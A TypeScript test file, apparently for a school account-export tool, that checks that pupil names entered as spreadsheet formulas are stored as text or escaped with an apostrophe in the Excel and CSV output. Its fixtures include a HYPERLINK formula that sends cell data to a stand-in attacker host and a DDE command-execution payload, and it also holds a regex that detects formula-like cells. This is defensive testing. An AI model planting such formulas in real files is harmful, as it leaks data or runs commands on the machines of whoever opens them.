import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { Workplace } from '../support/leerid.js';
import { readWorkbook } from '../support/read-workbook.js';
import { importHostile, writeHostileList, type HostilePupil } from './hostile-list.js';

const FORMULA = '=HYPERLINK("https://kwaad.be/?"&F2,"klik")';
const PUPILS: readonly HostilePupil[] = [
  { firstName: FORMULA, lastName: "=cmd|' /C calc'!A0" },
  { firstName: '+32', lastName: '@SUM(F2:F9)', group: '=1+1', className: '-1' },
  { firstName: ' =2', lastName: '\t=3', group: '@4', className: '+5' },
  { lastName: '-2+3', institution: '=4' },
];
const BEGINS_LIKE_A_FORMULA = /^[=+\-@\t\r\n]/;

function cellsOf(csv: string): string[] {
  const rows: string[][] = parse(csv, { bom: true, delimiter: ';', relaxColumnCount: true });
  return rows.flat();
}

describe('a name that is a formula', () => {
  const workplace = new Workplace();
  let zip = '';
  beforeAll(() => {
    importHostile(workplace, PUPILS);
    const bulk = workplace.run('bulk', '--alles', '--yes', '--documenten', 'excel,csv', '--per-klas');
    if (bulk.code !== 0) throw new Error(bulk.stderr);
    zip = workplace.zips()[0] ?? '';
  });
  afterAll(() => {
    workplace.remove();
  });

  test('is text in every Excel of the ZIP, as it was written', () => {
    const list = spawnSync('unzip', ['-Z1', join(workplace.folder, zip)], { encoding: 'utf8' });
    const books = list.stdout.split('\n').filter((name) => name.endsWith('.xlsx'));
    expect(books.length).toBeGreaterThan(1);
    for (const book of books) expect(readWorkbook(workplace.unzip(zip, book)).types).toEqual(['s']);
    const { rows } = readWorkbook(workplace.unzip(zip, 'leerid-accounts.xlsx'));
    const cells = rows.slice(1).flat();
    for (const text of [
      FORMULA,
      "=cmd|' /C calc'!A0",
      '+32',
      '@SUM(F2:F9)',
      '=1+1',
      '-1',
      '=2',
      '=3',
      '-2+3',
      '=4',
    ])
      expect(cells).toContain(text);
  });

  test('has an apostrophe before it in the CSV of the ZIP', () => {
    const cells = cellsOf(Buffer.from(workplace.unzip(zip, 'leerid-mailmerge.csv')).toString('utf8'));
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter((cell) => BEGINS_LIKE_A_FORMULA.test(cell))).toEqual([]);
  });

  test('and in the CSV of list', () => {
    const cells = cellsOf(workplace.run('list', '--csv').stdout);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter((cell) => BEGINS_LIKE_A_FORMULA.test(cell))).toEqual([]);
  });

  test('and in the CSV of rejected rows, header and reasons too', () => {
    const bad = PUPILS.map((pupil) => ({ ...pupil, born: '=31/02/2015' }));
    const path = writeHostileList(workplace, [...bad, { lastName: '\n=1' }, { lastName: 'Goed' }], {
      name: 'fout.csv',
      column: '=A1',
    });
    const outcome = workplace.run('import', path, '--foute-rijen-overslaan', '--deellijst');
    expect(outcome.code).toBe(3);
    const rejects = cellsOf(readFileSync(join(workplace.folder, 'fout-fouten.csv'), 'utf8'));
    expect(rejects).toEqual(expect.arrayContaining([`'${FORMULA}`, "'=31/02/2015", "'=A1"]));
    expect(rejects.filter((cell) => BEGINS_LIKE_A_FORMULA.test(cell))).toEqual([]);
  });

  test('is never worked out when a list is read: an Excel gives what it last showed', () => {
    const path = join(workplace.folder, 'uit-excel.csv');
    writeFileSync(path, 'Stamnummer;Voornaam;Naam;Administratieve groep\r\n9;"=""00945""";"=1+1";G\r\n');
    const shown = workplace.run('import', path, '--deellijst', '--dry-run', '--instelling', 'Sint-Jan');
    expect(shown.stdout).toContain('00945 =1+1');
  });
});
